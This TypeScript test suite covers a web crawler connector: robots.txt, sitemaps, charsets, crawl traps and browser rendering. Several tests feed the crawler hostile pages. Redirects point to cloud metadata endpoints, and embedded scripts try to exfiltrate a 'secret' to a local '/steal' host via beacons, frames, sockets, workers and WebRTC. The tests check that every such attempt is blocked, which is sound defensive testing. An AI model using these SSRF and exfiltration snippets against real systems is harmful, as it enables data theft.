import { createSocket } from "node:dgram";
import { readdir } from "node:fs/promises";
import { gzipSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { describeConnector } from "../../conformance/describe-connector.ts";
import { longPath } from "../../conformance/long-names.ts";
import { MemoryTarget } from "../../conformance/memory-target.ts";
import { progressOf } from "../../conformance/progress-of.ts";
import { linksTo, startSite, type TestSite } from "../../conformance/start-site.ts";
import { quickCrawl, startWebCrawl, testChromiumPath, type WebCrawl } from "../../conformance/start-web-crawl.ts";
import { webConfigSchema, type WebConfig } from "./config.ts";
import { maxUrlChars } from "./crawl-traps.ts";
import { createPageReader } from "./page-reader.ts";
import { webConnector } from "./web-connector.ts";

describeConnector(
  "web",
  async () => {
    const site = await startSite();
    // One for all crawls of a test: most are killed before a process of their own would have started.
    const pageReader = createPageReader(new AbortController().signal);
    let aheadMs = 0;
    const pathOf = (name: string) => `/${name.split("/").map(encodeURIComponent).join("/")}`;
    const relink = () => {
      const paths = [...site.pages.keys()].filter((path) => path !== "/");
      site.pages.set("/", { body: `<title>Start</title>${linksTo(paths)}` });
    };
    const put = async (name: string, text: string) => {
      const headers = { "last-modified": new Date(Date.now() + aheadMs).toUTCString() };
      site.pages.set(pathOf(name), { body: `<title>${encodeURI(name)}</title><p>${text}</p>`, headers });
      relink();
    };
    const remove = async (name: string) => {
      site.pages.delete(pathOf(name));
      relink();
    };
    return {
      connector: {
        ...webConnector,
        read: (request) => webConnector.read({ ...request, context: { ...request.context, pageReader } }),
      },
      config: webConfigSchema.parse({ ...quickCrawl, url: site.origin, include: ["*.md"] }),
      secrets: {},
      refOf: (name) => site.origin + pathOf(name),
      put,
      remove,
      async move(from, to) {
        site.pages.set(pathOf(to), site.pages.get(pathOf(from))!);
        await remove(from);
      },
      async breakItem(name) {
        const page = site.pages.get(pathOf(name))!;
        site.pages.set(pathOf(name), { ...page, status: 500 });
        return async () => void site.pages.set(pathOf(name), page);
      },
      async vanish() {
        await site.stop();
        return () => site.start();
      },
      setClock: async (ms) => void (aheadMs = ms),
      // A longer address is taken for a trap.
      names: { longest: [longPath(maxUrlChars - `${site.origin}/`.length)] },
      remote: { trouble: site.trouble, aboutAll: /^GET \/(robots\.txt)?$/ },
      async close() {
        await pageReader.close();
        await site.stop();
      },
    };
  },
  "http",
);

describe("webConnector", () => {
  let crawl: WebCrawl;
  let site: TestSite;
  beforeEach(async () => {
    crawl = await startWebCrawl();
    ({ site } = crawl);
  });
  afterEach(() => crawl.stop());

  const page: WebCrawl["page"] = (...args) => crawl.page(...args);
  const configOf: WebCrawl["configOf"] = (config) => crawl.configOf(config);
  const sync: WebCrawl["sync"] = (target, config) => crawl.sync(target, config);
  const paths: WebCrawl["paths"] = (target) => crawl.paths(target);

  it("keeps to robots.txt, names itself, and is stopped by a robots.txt that cannot be had", async () => {
    page("/robots.txt", "User-agent: *\nDisallow: /\n\nUser-agent: AnnealBot\nDisallow: /private\n", {
      "content-type": "text/plain",
    });
    page("/", linksTo(["/open", "/private/plan"]));
    page("/open", "open");
    page("/private/plan", "plan");
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/open"]);
    expect(site.takeLog()).not.toContain("200 /private/plan");
    page("/robots.txt", "", {}, 500);
    await expect(sync(new MemoryTarget())).rejects.toMatchObject({ code: "SOURCE_UNREACHABLE" });
    page("/robots.txt", "User-agent: *\nDisallow: /", { "content-type": "text/plain" });
    await expect(sync(new MemoryTarget())).rejects.toMatchObject({ code: "SOURCE_FORBIDDEN" });
  });

  it("reads a page that is called like a script, and no script", async () => {
    page("/", linksTo(["/js/Node.js?version=14", "/app.js", "/odd.js", "/menu.min.js", "/docs/v1.2"]));
    page("/js/Node.js?version=14", "runs JavaScript outside of browsers", {
      "content-type": "text/html; charset=utf-8",
    });
    page("/docs/v1.2", "notes on a release");
    page("/app.js", "start();", { "content-type": "text/javascript" });
    page("/odd.js", "start();", { "content-type": "text/plain" });
    page("/menu.min.js", "open();", { "content-type": "text/javascript" });
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/docs/v1.2", "/js/Node.js?version=14"]);
    expect(site.takeLog()).not.toContain("200 /menu.min.js");
  });

  it("reads a robots.txt as far as RFC 9309 asks, however long it is", async () => {
    const rules = `User-agent: *\nDisallow: /shut\n${"# a comment of the site's owner\n".repeat(20_000)}Disallow: /behind\n`;
    site.pages.set("/robots.txt", { body: rules, headers: { "content-type": "text/plain" } });
    page("/", linksTo(["/shut", "/behind"]));
    page("/shut", "shut");
    page("/behind", "named too late");
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/behind"]);
  });

  it("finds pages by sitemap indexes, zipped ones and plain text, beside links", async () => {
    page("/robots.txt", `Sitemap: ${site.origin}/index.xml\nSitemap: ${site.origin}/plain.txt`, {
      "content-type": "text/plain",
    });
    const xml = { "content-type": "application/xml" };
    const sitemap = (loc: string) =>
      `<?xml version="1.0"?><urlset xmlns:i="urn:i"><url><loc> ${site.origin}${loc} </loc><i:image><i:loc>${site.origin}/no</i:loc></i:image></url></urlset>`;
    page("/index.xml", `<sitemapindex><sitemap><loc>${site.origin}/a.xml.gz</loc></sitemap></sitemapindex>`, xml);
    site.pages.set("/a.xml.gz", {
      body: gzipSync(sitemap("/orphan")),
      headers: { "content-type": "application/gzip" },
    });
    page("/plain.txt", `${site.origin}/listed\nhttp://elsewhere.example/x\n`, { "content-type": "text/plain" });
    page("/", "start");
    page("/orphan", "orphan");
    page("/listed", "listed");
    page("/no", "an image, not a page");
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/listed", "/orphan"]);
  });

  it("tells a first crawl how many addresses there are at least: all of sitemaps, what was visited and what waits", async () => {
    crawl.page("/", linksTo(["/a", "/b"]));
    for (const name of ["/a", "/b", "/s/1", "/s/2", "/s/3"]) crawl.page(name, `text of ${name}`);
    const listed = ["/s/1", "/s/2", "/s/3"].map((path) => crawl.site.origin + path);
    crawl.page("/sitemap.xml", listed.join("\n"), { "content-type": "text/plain" });
    const target = await crawl.sync(new MemoryTarget(), { concurrency: 1 });
    const totals = (of: MemoryTarget) => progressOf(of).map(({ total }) => total);
    expect(target.documents.size).toBe(6);
    expect(totals(target).length).toBeGreaterThan(2);
    for (const total of totals(target)) expect(total).toBeGreaterThanOrEqual(3);
    expect(totals(target).at(-1)).toBe(6);
    const limited = await crawl.sync(new MemoryTarget(), { concurrency: 1, maxPages: 2 });
    expect(new Set(totals(limited))).toEqual(new Set([2]));
    // A later crawl is told by what is held.
    await crawl.sync(target, { concurrency: 1 });
    expect(new Set(totals(target))).toEqual(new Set([null]));
  });

  it("asks only whether known pages changed, and still finds what lies behind unchanged ones", async () => {
    page("/", linksTo(["/a"]));
    page("/a", `a ${linksTo(["/b"])}`);
    page("/b", `b ${linksTo(["/c"])}`);
    page("/c", "c");
    const target = await sync(new MemoryTarget());
    site.takeLog();
    page("/c", `c is new ${linksTo(["/d"])}`);
    page("/d", "d");
    await sync(target);
    expect(
      site
        .takeLog()
        .filter((line) => /\/[abcd]?$/.test(line))
        .sort(),
    ).toEqual([
      // The start is fetched once to see where it leads.
      "200 /",
      "200 /c",
      "200 /d",
      "304 /",
      "304 /a",
      "304 /b",
    ]);
    expect(target.opened.map((ref) => ref.slice(site.origin.length))).toEqual(["/c", "/d"]);
  });

  it("deletes a page that is gone, or that nothing leads to any more, but not behind a page that fails", async () => {
    page("/", linksTo(["/a", "/b"]));
    page("/a", linksTo(["/behind-a"]));
    page("/behind-a", "behind a");
    page("/b", linksTo(["/behind-b"]));
    page("/behind-b", "behind b");
    const target = await sync(new MemoryTarget());
    page("/a", "down", {}, 500);
    page("/b", "b leads nowhere now");
    await sync(target);
    expect(paths(target)).toEqual(["/", "/a", "/b", "/behind-a"]);
    expect(target.failures.map(({ ref }) => ref)).toEqual([`${site.origin}/a`]);
    page("/a", "gone", {}, 410);
    await sync(target);
    expect(paths(target)).toEqual(["/", "/b"]);
  });

  it("deletes nothing for being absent when the page limit cut the crawl short", async () => {
    page("/", linksTo(["/a", "/b"]));
    page("/a", "a");
    page("/b", "b");
    const target = await sync(new MemoryTarget());
    await sync(target, { maxPages: 2 });
    expect(paths(target)).toEqual(["/", "/a", "/b"]);
    page("/a", "gone", {}, 404);
    await sync(target, { maxPages: 2 });
    expect(paths(target)).toEqual(["/", "/b"]);
  });

  it("ends the run, without deletions, when the site goes down in the middle", async () => {
    const names = Array.from({ length: 30 }, (_, index) => `/${index}`);
    page("/", linksTo(names));
    for (const name of names) page(name, `page ${name}`);
    const target = await sync(new MemoryTarget());
    for (const name of names) page(name, "down", {}, 502);
    await expect(sync(target)).rejects.toMatchObject({ code: "SOURCE_UNREACHABLE" });
    expect(target.documents.size).toBe(31);
  });

  it("stores each page once: canonical, redirected, tracked, sorted and fragmented addresses are one", async () => {
    page(
      "/",
      linksTo(["/a?utm_source=x", "/a#part", "/old", "/copy", "/q?b=2&a=1", "/q?a=1&b=2&fbclid=3", "/logo.png"]),
    );
    page("/a", "a");
    page("/old", "", { location: "/new" }, 301);
    page("/new", "new");
    page("/copy", `<link rel="canonical" href="/original">copy`);
    page("/original", `<link rel="canonical" href="/original">original`);
    page("/q?a=1&b=2", `<link rel="canonical" href="/">wrongly canonical`);
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/a", "/new", "/original", "/q?a=1&b=2"]);
    expect(site.takeLog()).not.toContain("404 /logo.png");
  });

  it("leaves out pages marked noindex but follows them, and nofollow pages the other way round", async () => {
    page("/", linksTo(["/hub", "/leaf", "/header"]));
    page("/hub", `<meta name="robots" content="noindex">${linksTo(["/from-hub"])}`);
    page("/leaf", `<meta name="robots" content="nofollow">leaf ${linksTo(["/from-leaf"])}`);
    page("/header", "hidden", { "x-robots-tag": "noindex" });
    page("/from-hub", "from hub");
    page("/from-leaf", "from leaf");
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/from-hub", "/leaf"]);
    expect(paths(await sync(new MemoryTarget(), { respectNoindex: false }))).toContain("/hub");
  });

  it("takes a page that says it does not exist for one that does not", async () => {
    const missing = (path: string) => `<title>Oops</title><p>Nothing at ${path}, sorry.</p>`;
    site.respond = ({ path }) => (/^\/[\da-f-]{36}$/.test(path) ? { body: missing(path) } : null);
    page("/", linksTo(["/real", "/ghost"]));
    page("/real", "<title>Oops</title>A real page.");
    page("/ghost", missing("/ghost"));
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/real"]);
  });

  it("brings linked documents along, and nothing that is neither page nor document", async () => {
    page("/", linksTo(["/manual.pdf", "/download?id=1", "/data.bin", "/tool"]));
    site.pages.set("/manual.pdf", {
      body: Buffer.from("%PDF-1.7 manual"),
      headers: { "content-type": "application/pdf" },
    });
    site.pages.set("/download?id=1", {
      body: "a,b",
      headers: { "content-type": "text/csv", "x-robots-tag": "googlebot: nofollow" },
    });
    site.pages.set("/tool", { body: "MZ", headers: { "content-type": "application/x-msdownload" } });
    const target = await sync(new MemoryTarget());
    expect(paths(target)).toEqual(["/", "/download?id=1", "/manual.pdf"]);
    expect(target.documents.get(`${site.origin}/manual.pdf`)).toMatchObject({
      text: "%PDF-1.7 manual",
      item: { mediaType: "application/pdf", sizeBytes: 15 },
    });
    expect(await readdir(crawl.context.tempDir)).toEqual([]);
    await sync(target);
    expect(target.opened).toEqual([]);
    // Asked for again as a whole, and the same: nothing of it is kept beside it.
    site.respond = ({ path, headers }) => {
      const known = headers["if-none-match"] === undefined ? undefined : site.pages.get(path);
      return known === undefined ? null : { ...known, status: 200 };
    };
    await sync(target);
    expect(target.opened).toEqual([]);
    expect(await readdir(crawl.context.tempDir)).toEqual([]);
  });

  it("stays on its host and out of loops that make addresses longer for ever", async () => {
    page(
      "/",
      linksTo(["http://elsewhere.example/", "//elsewhere.example/x", "/away", "mailto:a@b.c", "javascript:void(0)"]),
    );
    page("/away", "", { location: "http://elsewhere.example/y" }, 302);
    const loop = (depth: number) => `/loop${"/again".repeat(depth)}`;
    for (let depth = 0; depth < 50; depth += 1) page(loop(depth), `loop ${depth} ${linksTo([loop(depth + 1)])}`);
    for (let day = 0; day < 500; day += 1)
      page(`/calendar?day=${day}`, `day ${day} <a href="?day=${day + 1}">next</a>`);
    page("/", linksTo(["/loop", "/calendar?day=0", "/away", "http://elsewhere.example/"]));
    const target = await sync(new MemoryTarget(), { maxDepth: 100, maxPages: 5000 });
    expect(paths(target).filter((path) => path.startsWith("/loop")).length).toBe(4);
    expect(paths(target).filter((path) => path.startsWith("/calendar")).length).toBe(21);
    expect(target.failures.map(({ ref, error }) => [ref.slice(site.origin.length), error.details])).toEqual([
      ["/loop/…", { code: "TRAP_REPEATING_PATH", leftOut: 1, example: `${site.origin}/loop/again/again/again/again` }],
      ["/calendar?…", { code: "TRAP_SAME_TEXT", leftOut: 1, example: `${site.origin}/calendar?day=21` }],
    ]);
    await sync(target, { maxDepth: 100, maxPages: 5000 });
    expect(target.changes.map(({ type }) => type)).not.toContain("delete");
    expect(target.opened).toEqual([]);
  });

  it("waits as long as a 429 says, then goes on", async () => {
    page("/", linksTo(["/busy"]));
    page("/busy", "slow down", { "retry-after": "0" }, 429);
    const target = new MemoryTarget();
    let answered = 0;
    const stream = crawl.read(target);
    const busy = site.pages.get("/busy")!;
    site.pages.get = (path) => {
      if (path !== "/busy") return Map.prototype.get.call(site.pages, path);
      answered += 1;
      return answered < 3 ? busy : { body: "at last" };
    };
    await target.apply(stream);
    expect(target.documents.get(`${site.origin}/busy`)?.text).toBe("at last");
  });

  it("turns other charsets into UTF-8, whoever named them", async () => {
    page("/", linksTo(["/header", "/meta"]));
    const latin = Buffer.from("Größe", "latin1");
    site.pages.set("/header", { body: latin, headers: { "content-type": "text/html; charset=iso-8859-1" } });
    site.pages.set("/meta", {
      body: Buffer.concat([Buffer.from("<meta charset='windows-1252'>"), latin]),
      headers: { "content-type": "text/html" },
    });
    const target = await sync(new MemoryTarget());
    for (const path of ["/header", "/meta"]) expect(target.documents.get(site.origin + path)?.text).toContain("Größe");
  });

  it("keeps the words of a text whose charset only the header names", async () => {
    page("/", linksTo(["/notes.txt", "/list.csv", "/marked.txt", "/untold.txt"]));
    const cyrillic = Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2]);
    const texts: [string, Buffer, string, string][] = [
      ["/notes.txt", cyrillic, "text/plain; charset=windows-1251", "Привет"],
      ["/list.csv", Buffer.from("größe,1", "latin1"), "text/csv; charset=ISO-8859-1", "größe,1"],
      ["/marked.txt", Buffer.from("\ufeffgröße"), "text/plain; charset=iso-8859-1", "größe"],
      ["/untold.txt", Buffer.from("größe"), "text/plain", "größe"],
    ];
    for (const [path, body, type] of texts) site.pages.set(path, { body, headers: { "content-type": type } });
    const target = await sync(new MemoryTarget());
    for (const [path, , , text] of texts) expect(target.documents.get(site.origin + path)?.text, path).toBe(text);
    await sync(target);
    expect(target.opened).toEqual([]);
  });

  it("reads a page as browsers do whose charset is told twice, wrongly or not at all", async () => {
    const title = "<title>Größe</title>";
    const pages: [string, Buffer, string][] = [
      ["/untold", Buffer.from(title, "latin1"), "text/html"],
      ["/untold-utf8", Buffer.from(title), "text/html"],
      ["/marked", Buffer.from(`\ufeff${title}`), "text/html; charset=iso-8859-1"],
      ["/wide", Buffer.from(`\ufeff${title}`, "utf16le"), "text/html"],
      ["/unknown", Buffer.from(`<meta charset="latin1">${title}`, "latin1"), "text/html; charset=none"],
      ["/called-wide", Buffer.from(`<meta charset="utf-16">${title}`), "text/html"],
    ];
    page("/", linksTo(pages.map(([path]) => path)));
    for (const [path, body, type] of pages) site.pages.set(path, { body, headers: { "content-type": type } });
    const target = await sync(new MemoryTarget());
    for (const [path] of pages) {
      expect(target.documents.get(site.origin + path), path).toMatchObject({
        item: { title: "Größe" },
        text: expect.stringContaining(title),
      });
    }
  });

  it("does not read a page again for a new nonce, time stamp in a script, or another order of attributes", async () => {
    page("/", `<script nonce="1">now(1)</script><p class="x" id="y">Same text.</p>`);
    const target = await sync(new MemoryTarget());
    page("/", `<script nonce="2">now(2)</script><p id="y" class="x">Same text.</p>`);
    await sync(target);
    expect(target.opened).toEqual([]);
  });

  it("refuses private hosts unless an administrator allowed them, and metadata services always", async () => {
    page("/", linksTo(["/leak"]));
    page("/leak", "", { location: "http://169.254.169.254/latest/meta-data/" }, 302);
    const refused = { code: "SOURCE_FORBIDDEN", details: { code: "HOST_REFUSED" } };
    await expect(sync(new MemoryTarget(), { allowPrivateHosts: false })).rejects.toMatchObject(refused);
    for (const url of [
      "http://localhost:8099/",
      "http://[::ffff:127.0.0.1]/",
      "http://2130706433/",
      "http://0/",
      "http://[fe80::1]/",
    ]) {
      await expect(sync(new MemoryTarget(), { url, allowPrivateHosts: false }), url).rejects.toMatchObject(refused);
    }
    for (const url of [
      "http://169.254.169.254/",
      "http://[fd00:ec2::254]/",
      "http://100.100.100.200/",
      "http://0.0.0.0/",
    ]) {
      await expect(sync(new MemoryTarget(), { url }), url).rejects.toMatchObject(refused);
    }
    expect(paths(await sync(new MemoryTarget()))).toEqual(["/"]);
    page("/", "", { location: "http://169.254.169.254/" }, 302);
    await expect(sync(new MemoryTarget())).rejects.toMatchObject(refused);
  });

  it("names what is wrong with the address", async () => {
    const codeOf = async (config: Partial<WebConfig>) =>
      (await webConnector.check(configOf(config), {}, crawl.context)).error?.code;
    expect(await codeOf({})).toBe("SOURCE_NOT_FOUND");
    expect(await codeOf({ url: "http://nowhere.invalid/" })).toBe("SOURCE_UNREACHABLE");
    page("/", "members only", {}, 403);
    expect(await codeOf({})).toBe("SOURCE_FORBIDDEN");
    page("/", "", { location: "/" }, 302);
    expect(await codeOf({})).toBe("SOURCE_UNREACHABLE");
    page("/", "welcome");
    expect(await codeOf({})).toBeUndefined();
  });

  it("says in check() what its sitemap names, else where its first page leads", async () => {
    const summary = async () => (await webConnector.check(configOf({}), {}, crawl.context)).summary;
    page("/", '<title>Docs</title>Welcome. <a href="/a">a</a> <a href="/">home</a>');
    expect(await summary()).toBe(`${site.origin} answers, and its first page, “Docs”, leads to 1 page: /a.`);
    const urls = ["/a", "/b", "/c", "/d"].map((path) => `<url><loc>${site.origin}${path}</loc></url>`).join("");
    page("/sitemap.xml", `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${urls}</urlset>`, {
      "content-type": "application/xml",
    });
    expect(await summary()).toBe(`${site.origin} answers, and its sitemap names 4 pages, such as /a, /b and /c.`);
  });

  describe.skipIf(testChromiumPath === null)("with a browser", () => {
    beforeEach(() => {
      crawl.context.chromiumPath = testChromiumPath;
    });

    it("renders pages that scripts fill, from what the site serves, and leaves others alone", async () => {
      page("/", linksTo(["/app", "/static"]) + "A long enough start page. ".repeat(20));
      page("/app", `<title>App</title><div id="root"></div><script src="/app.js"></script>`);
      page(
        "/app.js",
        `fetch("/api/text").then((r) => r.json()).then(({ text }) => { root.innerHTML = "<p>" + text + "</p><a href=/inner>inner</a>"; })`,
        {
          "content-type": "text/javascript",
        },
      );
      page("/api/text", `{"text":"Written by a script."}`, { "content-type": "application/json" });
      page("/inner", "Reached through a rendered link.");
      page("/static", `<p>${"Enough text to read. ".repeat(20)}</p><script>document.body.innerHTML = ""</script>`);
      const target = await sync(new MemoryTarget(), { render: "auto" });
      expect(paths(target)).toEqual(["/", "/app", "/inner", "/static"]);
      expect(target.documents.get(`${site.origin}/app`)?.text).toContain("<p>Written by a script.</p>");
      expect(target.documents.get(`${site.origin}/static`)?.text).toContain("Enough text");
      await sync(target, { render: "auto" });
      expect(target.opened).toEqual([]);
    });

    it("keeps a page's scripts behind the guard: no address, form, frame, socket or navigation gets out", async () => {
      const outside = await startSite();
      outside.pages.set("/steal", { body: "never" });
      const target = `${outside.origin.replace("127.0.0.1", "localhost")}/steal`;
      page(
        "/",
        `<title>Trap</title><div id="root"></div><script>
        const tell = (name, state) => { root.innerHTML += "<p>" + name + " " + state + "</p>"; };
        fetch("http://169.254.169.254/latest/").then(() => tell("metadata", "open"), () => tell("metadata", "shut"));
        fetch("/post", { method: "POST" }).then(() => tell("post", "open"), () => tell("post", "shut"));
        const frame = document.createElement("iframe"); frame.src = "${target}"; document.body.append(frame);
        const image = document.createElement("img"); image.src = "${target}"; document.body.append(image);
        try { new WebSocket("ws://127.0.0.1:${new URL(outside.origin).port}/steal"); } catch {}
        navigator.sendBeacon("${target}", "secret");
        setTimeout(() => { location.href = "${target}"; }, 50);
      </script>`,
      );
      const stored = await sync(new MemoryTarget(), { render: "auto" });
      const text = stored.documents.get(`${site.origin}/`)?.text.slice(0, 5000);
      expect(text).toContain("metadata shut");
      expect(text).toContain("post shut");
      expect(outside.takeLog()).toEqual([]);
      expect(site.takeLog().some((line) => line.endsWith("/post"))).toBe(false);
      await outside.stop();
    });

    it("opens no connection of the browser's own, whatever a page hints at", async () => {
      const outside = await startSite();
      try {
        const targets = [outside.origin, outside.origin.replace("127.0.0.1", "localhost")];
        const hints = targets.map((target) => {
          const rules = { prerender: [{ source: "list", urls: [`${target}/prerender`] }] };
          return `<link rel="preconnect" href="${target}"><link rel="dns-prefetch" href="${target}"><link rel="manifest" href="${target}/m.json">
            <script type="speculationrules">${JSON.stringify(rules)}</script><video src="${target}/v"></video><object data="${target}/o"></object>`;
        });
        page(
          "/",
          `${hints.join("")}<div id="root"></div><script>
          for (const target of ${JSON.stringify(targets)}) {
            new EventSource(target + "/events");
            window.open(target + "/popup");
            new Worker(URL.createObjectURL(new Blob(["fetch('" + target + "/worker', { method: 'POST' })"])));
            try { new WebTransport(target.replace("http:", "https:")); } catch {}
          }
          setTimeout(() => { root.textContent = "All was tried."; }, 300);</script>`,
        );
        const stored = await sync(new MemoryTarget(), { render: "always" });
        expect(stored.documents.get(`${site.origin}/`)?.text).toContain("All was tried.");
        // A script or data of another host would be fetched by us, behind the guard; these are the browser's own ways.
        expect(outside.requests.map(({ path }) => path)).toEqual([]);
        expect(outside.connections()).toBe(0);
      } finally {
        await outside.stop();
      }
    });

    it("sends nothing by WebRTC, from whichever window a page takes it", async () => {
      const outside = createSocket("udp4");
      let received = 0;
      outside.on("message", () => (received += 1));
      await new Promise<void>((resolve) => outside.bind(0, "127.0.0.1", resolve));
      try {
        const at = `127.0.0.1:${outside.address().port}`;
        page(
          "/",
          `<div id="root"></div><iframe id="inner"></iframe><script>
          const call = async (Connection) => {
            for (const urls of ["stun:${at}", "turn:${at}?transport=udp"]) {
              const peer = new Connection({ iceServers: [{ urls, username: "a", credential: "b" }] });
              peer.createDataChannel("x");
              await peer.setLocalDescription(await peer.createOffer());
              const sdp = peer.localDescription.sdp.replace("setup:actpass", "setup:active");
              await peer.setRemoteDescription({ type: "answer", sdp });
              const candidate = "candidate:1 1 udp 2122260223 ${at.replace(":", " ")} typ host";
              await peer.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
            }
          };
          for (const place of [window, inner.contentWindow]) call(place.RTCPeerConnection).catch(() => {});
          setTimeout(() => { root.textContent = "All was tried."; }, 1000);
          // Until then there is something to wait for.
          fetch("/slow");</script>`,
        );
        let answer = () => {};
        site.pages.set("/slow", { body: "slow", gate: new Promise<void>((resolve) => (answer = resolve)) });
        setTimeout(answer, 1500);
        const stored = await sync(new MemoryTarget(), { render: "always" });
        expect(stored.documents.get(`${site.origin}/`)?.text).toContain("All was tried.");
        expect(received).toBe(0);
      } finally {
        outside.close();
      }
    });

    it("gives up on a script that never ends, and goes on with the next page", async () => {
      crawl.context.limits = { ...crawl.context.limits, requestTimeoutMs: 1500 };
      page("/", linksTo(["/endless", "/next"]) + "A long enough start page. ".repeat(20));
      page("/endless", "<script>for (;;);</script>");
      page("/next", "next");
      const target = await sync(new MemoryTarget(), { render: "auto" });
      expect(paths(target)).toEqual(["/", "/next"]);
      expect(target.failures.map(({ ref }) => ref)).toEqual([`${site.origin}/endless`]);
    });
  });
});
